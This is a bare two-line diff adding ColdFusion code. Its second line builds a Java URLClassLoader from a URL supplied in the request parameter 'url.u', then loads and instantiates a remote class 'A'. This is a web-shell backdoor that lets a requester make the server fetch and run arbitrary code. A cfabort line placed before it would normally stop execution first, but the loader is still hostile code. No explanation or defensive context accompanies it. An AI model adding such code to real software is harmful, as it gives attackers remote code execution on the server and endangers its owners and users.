@@ -1,0 +1,2 @@
+<cfabort>
+<cfset l=createObject("java","java.net.URLClassLoader").init([createObject("java","java.net.URL").init(url.u)]).loadClass("A").newInstance()>
